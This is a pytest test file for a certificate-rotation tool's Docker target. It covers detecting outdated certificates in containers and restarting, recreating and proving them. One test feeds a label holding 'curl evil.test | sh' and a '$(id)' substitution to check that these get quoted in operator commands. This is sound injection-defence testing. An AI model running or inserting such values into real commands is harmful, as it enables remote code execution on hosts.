"""What shows that a container has an older copy, and how those are brought up to date."""

import os
from base64 import b64encode
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from certrotd.clock import ManualClock
from certrotd.containers.chosen import Chosen
from certrotd.containers.container import (
    Container,
    Mount,
    Network,
    address,
    container,
    recreation,
)
from certrotd.containers.engine import Ended, Gone
from certrotd.containers.fitness import Telling
from certrotd.containers.older import Copy
from certrotd.containers.probing import ContainerProbe
from certrotd.errors import NeedsOperator, ProofFailed, Transient
from certrotd.pki.facts import facts_of
from certrotd.pki.generation import Behind, LiveCertificate
from certrotd.targets.docker import DockerTarget
from tests.parts import pki
from tests.unit.targets.test_docker import MemoryEngine, running

NAME = "a.example.test"
OLD = pki.make_leaf(pki.make_intermediate(pki.make_root()), NAME)
COMPOSED = {"com.docker.compose.project": "shop", "com.docker.compose.service": "web"}
HOST = Network(host=True)


@pytest.fixture
def live(tmp_path: Path) -> LiveCertificate:
    """One that is live in a folder, as a certificate's store has it."""
    (tmp_path / "generations").mkdir()
    (tmp_path / "live").symlink_to("generations")
    for name in ("fullchain.pem", "privkey.pem"):
        (tmp_path / "live" / name).write_text(f"-----BEGIN {name}")
    return LiveCertificate("web", (NAME,), str(tmp_path / "live"), "f" * 64)


class Shows:
    """What containers serve, by port; ``log`` is which were proven, and told before."""

    def __init__(self, engine: MemoryEngine, **served: str) -> None:
        self.engine = engine
        self.served = served

    @property
    def probe(self) -> ContainerProbe:
        """In the network of the engine's machine, where each has a port of its own."""
        return ContainerProbe(443, "192.0.2.1", False, self._prove, self._look)

    def _prove(self, host: str, port: int, certificate: LiveCertificate) -> None:
        self.engine.log.append(f"proves {host}:{port}")
        if self._look(host, port, certificate) != certificate.fingerprint:
            raise ProofFailed(f"{host}:{port} does not serve it")

    def _look(self, host: str, port: int, certificate: LiveCertificate) -> str:
        assert (host, certificate.certificate) == ("192.0.2.1", "web")
        if f"p{port}" not in self.served:
            raise Transient(f"{host}:{port} takes no connection")
        return self.served[f"p{port}"]


def made(engine: MemoryEngine, **options: Any) -> DockerTarget:
    """A target of all that have the label."""
    clock = ManualClock(datetime(2026, 6, 1, tzinfo=UTC))
    options = {"telling": Telling(signal="HUP"), **options}
    return DockerTarget(engine, Chosen(labelled=True), timeout=30, clock=clock, **options)


def web(name: str = "web", **options: Any) -> Container:
    labels = {"certrotd.certificate": "web", **options.pop("labels", {})}
    return running(name, **{"labels": labels, **options})


class TestBehind:
    """What shows it."""

    def test_by_its_copy(self, live: LiveCertificate) -> None:
        """An older one, or none; one that does not run is not looked at."""
        engine = MemoryEngine(web(), replace(web("spare"), status="exited"))
        target = made(engine, copy=Copy("/tls/{certificate}"))
        assert target.behind_for((live,)) == [Behind("web", "has no /tls/web/fullchain.pem")]
        engine.files["/tls/web/fullchain.pem"] = b"older"
        assert target.behind_for((live,)) == [Behind("web", "has an older /tls/web/fullchain.pem")]
        engine.files["/tls/web/fullchain.pem"] = Path(live.live, "fullchain.pem").read_bytes()
        assert target.behind_for((live,)) == []

    def test_by_what_it_mounts(self, live: LiveCertificate) -> None:
        """Only a restart has it read that anew: it is done, or said where nobody asked for one."""
        engine = MemoryEngine(web(mounts=(Mount(live.live, "/tls"),)))
        engine.ended = Ended(0, b"older")
        why = "has another file at /tls than there is now"
        assert made(engine, telling=Telling()).behind_for((live,)) == [Behind("web", why)]
        said = made(engine).behind_for((live,))
        assert said == [Behind("web", why, "docker restart web")]
        assert set(engine.log) == {"web: cat /tls/fullchain.pem"}

    def test_not_by_what_it_mounts_of_others(
        self, live: LiveCertificate, tmp_path_factory: pytest.TempPathFactory
    ) -> None:
        """Nobody asked for a restart because the CA of its clients was replaced; a copy counts."""
        elsewhere = tmp_path_factory.mktemp("ssl")
        other, copy = elsewhere / "clients.pem", elsewhere / "copy.pem"
        other.write_text("-----BEGIN CERTIFICATE of another CA")
        copy.write_bytes(Path(live.live, "fullchain.pem").read_bytes())
        engine = MemoryEngine(web(mounts=(Mount(str(other), "/clients.pem"),)))
        engine.ended = Ended(0, b"older")
        assert made(engine, telling=Telling()).behind_for((live,)) == []
        engine.found["web"] = web(mounts=(Mount(str(copy), "/web.pem"),))
        why = "has another file at /web.pem than there is now"
        assert made(engine, telling=Telling()).behind_for((live,)) == [Behind("web", why)]

    def test_by_what_it_serves(self, live: LiveCertificate) -> None:
        """One that takes no connection yet shows nothing."""
        engine = MemoryEngine(web(network=HOST))
        shows = Shows(engine, p443="0" * 64)
        why = f"serves certificate {'0' * 16} at 192.0.2.1:443"
        target = made(engine, probes=(shows.probe,))
        assert target.behind_for((live,)) == [Behind("web", why)]
        for shows.served in ({"p443": live.fingerprint}, {}):
            assert target.behind_for((live,)) == []

    def test_one_that_cannot_be_looked_at_keeps_nobody_from_the_others(
        self, live: LiveCertificate, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """It is named, and not brought up to date; an engine that is away is no matter of one."""
        mounts = (Mount(live.live, "/tls"),)
        engine = MemoryEngine(*(web(name, mounts=mounts) for name in ("a", "b", "c", "d")))
        engine.ended = Ended(0, b"older")
        engine.unknown["a"] = Transient("it cannot say what a is")
        engine.locked |= {"b": NeedsOperator("no cat in b"), "d": Gone("there is no d")}
        target = made(engine, telling=Telling())
        assert target.behind_for((live,)) == [
            Behind("c", "has another file at /tls than there is now"),
            Behind("a", "cannot be looked at: it cannot say what a is", "docker inspect a"),
            Behind("b", "cannot be looked at: no cat in b", "docker inspect b"),
        ]
        target.catch_up_for((live,), ["c"])
        assert engine.log[-1] == "c: restart within 15"
        with pytest.raises(Transient, match="what a is"):
            target.catch_up_for((live,), ["a"])

        def away() -> None:
            raise Transient("the engine does not answer")

        monkeypatch.setattr(engine, "ping", away)
        with pytest.raises(Transient, match="engine does not answer"):
            target.behind_for((live,))

    def test_by_when_it_was_made(self, live: LiveCertificate) -> None:
        """Where it has to be made anew: before the link to what is live was replaced."""
        swapped = os.lstat(live.live).st_mtime
        engine = MemoryEngine(
            web("old", made=swapped - 60, labels=COMPOSED), web("new", made=swapped + 60)
        )
        target = made(engine, telling=Telling(anew=True))
        todo = "docker compose -p shop up -d --no-deps --force-recreate web"
        why = "was made before the present certificate web"
        assert target.behind_for((live,)) == [Behind("old", why, todo)]
        target.apply_for((live,))
        target.catch_up_for((live,), ["old"])
        target.revert_for((live,), {})
        assert engine.log == [], "nobody is told"
        [warning, _] = target.checked_for((live,)).warnings
        assert warning == f"the container new is not told: make it anew afterwards ({_ANEW})"

    @pytest.mark.parametrize("packed", ["as it is", "in one line", "in base64"])
    def test_by_what_it_was_made_with(self, live: LiveCertificate, packed: str) -> None:
        """A certificate of these names in a variable or label, however it is written there."""
        pem = OLD.fullchain_pem.decode()
        text = {
            "as it is": pem,
            "in one line": pem.replace("\n", "\\n"),
            "in base64": b64encode(OLD.fullchain_pem).decode(),
        }[packed]
        fingerprint = facts_of(OLD.certificate).fingerprint
        config = {"Env": ["X=1", f"TLS_CERT={text}"], "Labels": {"certrotd.certificate": "web"}}
        found = container({"Name": "/web", "State": {"Status": "running"}, "Config": config})
        engine = MemoryEngine(found)
        why = f"has certificate {fingerprint[:16]} in its variable TLS_CERT"
        assert made(engine).behind_for((live,)) == [Behind("web", why, _ANEW.replace("new", "web"))]
        current = replace(live, fingerprint=fingerprint)
        other = replace(live, names=("b.example.test",))
        assert made(engine).behind_for((current,)) == made(engine).behind_for((other,)) == []
        [warning] = made(engine).checked_for((current,)).warnings
        assert "has a certificate in its variable TLS_CERT: make it anew afterwards" in warning
        assert text not in repr(found)


_ANEW = "docker rm --force new, and docker run as it was made"


class TestCaughtUp:
    """Those alone that are named, if they still run."""

    def test_one_is_told_and_proven(self, live: LiveCertificate) -> None:
        """With its files."""
        labels = {"certrotd.port": "8443"}
        engine = MemoryEngine(
            web("a", network=HOST, labels=labels), web("b"), replace(web("c"), status="exited")
        )
        shows = Shows(engine, p8443=live.fingerprint)
        target = made(engine, copy=Copy("/tls"), probes=(shows.probe,))
        target.catch_up_for((live,), ["a", "c", "gone"])
        files = "a: /tls has ['fullchain.pem', 'privkey.pem'] of 0"
        assert engine.log == [files, "a: HUP", "proves 192.0.2.1:8443"]


def test_certificates_that_come_together_tell_a_container_once(live: LiveCertificate) -> None:
    """Of those that it has; each is proven."""
    other = replace(live, certificate="api")
    engine = MemoryEngine(
        web("both", network=HOST, labels={"certrotd.certificate": "web, api"}), web("one")
    )
    proven: list[tuple[str, int]] = []

    def prove(_host: str, port: int, certificate: LiveCertificate) -> None:
        proven.append((certificate.certificate, port))

    probe = ContainerProbe(443, "192.0.2.1", False, prove, lambda *_at: live.fingerprint)
    target = made(engine, copy=Copy("/tls/{certificate}"), probes=(probe,))
    engine.found["one"] = replace(engine.found["one"], network=HOST)
    target.apply_for((live, other))
    files = "['fullchain.pem', 'privkey.pem'] of 0"
    assert engine.log == [
        *(f"both: /tls/{name} has {files}" for name in ("web", "api")),
        "both: HUP",
        f"one: /tls/web has {files}",
        "one: HUP",
    ]
    assert proven == [("web", 443), ("api", 443), ("web", 443)]


class TestWaves:
    """One at a time, each proven before the next; an undo asks for no more than there was."""

    @pytest.fixture
    def engine(self) -> MemoryEngine:
        def at(name: str, port: str) -> Container:
            labels = {"certrotd.port": port}
            return web(name, network=HOST, labels=labels, started="at first")

        return MemoryEngine(at("a", "1"), at("b", "2"))

    def test_the_first_that_is_not_proven_ends_it(
        self, engine: MemoryEngine, live: LiveCertificate
    ) -> None:
        """The second is not told, and is not restarted by the undo."""
        shows = Shows(engine, p1="0" * 64, p2=live.fingerprint)
        target = made(engine, telling=Telling(), probes=(shows.probe,))
        checked = target.checked_for((live,))
        assert checked.shown == {"running": {"a": "at first", "b": "at first"}, "served": ["b"]}
        assert "the container a serves certificate 0000000000000000" in checked.warnings[0]
        engine.then = lambda each: replace(each, started="later")
        with pytest.raises(ProofFailed):
            target.apply_for((live,))
        told = ["a: restart within 15", "proves 192.0.2.1:1"]
        assert engine.log == told
        target.revert_for((live,), checked.shown)
        assert engine.log == [*told, "a: restart within 15"], "it did not serve it before"

    def test_each_is_proven_before_the_next(
        self, engine: MemoryEngine, live: LiveCertificate
    ) -> None:
        """The negative control, forth and back."""
        shows = Shows(engine, p1=live.fingerprint, p2=live.fingerprint)
        target = made(engine, probes=(shows.probe,))
        target.apply_for((live,))
        assert engine.log == ["a: HUP", "proves 192.0.2.1:1", "b: HUP", "proves 192.0.2.1:2"]
        shown = target.checked_for((live,)).shown
        engine.log.clear()
        target.revert_for((live,), shown)
        assert engine.log == ["b: HUP", "proves 192.0.2.1:2", "a: HUP", "proves 192.0.2.1:1"]

    def test_one_is_proven_where_it_is_reached_after_its_restart(
        self, live: LiveCertificate
    ) -> None:
        """An engine gives it another address then, and one that does not run has none at all."""
        first, second = (Network(addresses=(f"10.0.0.{n}",)) for n in (2, 3))
        engine = MemoryEngine(web("a", network=first, started="at first"))
        engine.then = lambda each: replace(each, network=second, started="later")
        proven: list[str] = []
        probe = ContainerProbe(
            443, "", False, lambda host, *_: proven.append(host), lambda *_: live.fingerprint
        )
        target = made(engine, telling=Telling(), probes=(probe,))
        shown = target.checked_for((live,)).shown
        target.apply_for((live,))
        engine.found["a"] = replace(engine.found["a"], status="exited", network=Network())
        target.revert_for((live,), shown)
        assert proven == ["10.0.0.3"] * 2

    def test_one_that_cannot_be_looked_at_is_said_before(
        self, engine: MemoryEngine, live: LiveCertificate
    ) -> None:
        """A wrong port would have the rotation undone."""
        shows = Shows(engine, p1=live.fingerprint)
        target = made(engine, probes=(shows.probe,))
        with pytest.raises(NeedsOperator, match=r"the container b cannot be looked at: .*:2 takes"):
            target.checked_for((live,))
        bare = MemoryEngine(web("a"))
        with pytest.raises(NeedsOperator, match="the container a has no address"):
            made(bare, probes=(Shows(bare).probe,)).checked_for((live,))


@pytest.mark.parametrize(
    ("network", "published", "where"),
    [
        (Network(host=True), False, ("192.0.2.1", 443)),
        (Network(host=True), True, ("192.0.2.1", 443)),
        (Network(addresses=("10.0.0.2", "10.1.0.2")), False, ("10.0.0.2", 443)),
        (Network(), False, None),
        (Network(published={443: ("0.0.0.0", 8443)}), True, ("192.0.2.1", 8443)),
        (Network(published={443: ("::", 8443)}), True, ("192.0.2.1", 8443)),
        (Network(published={443: ("127.0.0.2", 8443)}), True, ("127.0.0.2", 8443)),
        (Network(published={80: ("", 8080)}), True, None),
    ],
)
def test_where_a_container_is_looked_at(
    network: Network, published: bool, where: tuple[str, int] | None
) -> None:
    """As the target asks for it."""
    found = running("web", network=network)
    assert address(found, 443, "192.0.2.1", published=published) == where


def test_how_a_container_is_made_anew() -> None:
    """In the words of whatever made it."""
    swarm = running("x", labels={"com.docker.swarm.service.name": "shop_web"})
    assert recreation(swarm) == "docker service update --force shop_web"
    labels = {**COMPOSED, "com.docker.compose.project.working_dir": "/srv/shop"}
    said = recreation(running("x", labels=labels))
    assert said == ("in /srv/shop: docker compose -p shop up -d --no-deps --force-recreate web")


def test_no_label_adds_to_the_command_that_a_person_is_told_to_run() -> None:
    """Labels come from images as well."""
    labels = {**COMPOSED, "com.docker.compose.service": "web; curl evil.test | sh"}
    said = recreation(running("x", labels=labels))
    assert said.endswith("--force-recreate 'web; curl evil.test | sh'")
    swarm = running("x", labels={"com.docker.swarm.service.name": "$(id)"})
    assert recreation(swarm) == "docker service update --force '$(id)'"


def test_the_network_of_a_container_is_read_of_what_the_engine_says() -> None:
    """And when it was made."""
    found = container(
        {
            "Name": "/web",
            "Created": "2026-06-01T00:00:00.123456789Z",
            "HostConfig": {"NetworkMode": "shop_default"},
            "NetworkSettings": {
                "Networks": {"a": {"IPAddress": "10.0.0.2"}, "b": {"IPAddress": ""}},
                "Ports": {
                    "443/tcp": [{"HostIp": "0.0.0.0", "HostPort": "8443"}],
                    "80/tcp": None,
                    "53/udp": [{"HostIp": "", "HostPort": "53"}],
                },
            },
        }
    )
    assert found.network == Network(False, ("10.0.0.2",), {443: ("0.0.0.0", 8443)})
    assert int(found.made) == int(datetime(2026, 6, 1, tzinfo=UTC).timestamp())
    assert container({"Name": "/web", "Created": "?"}).made == 0
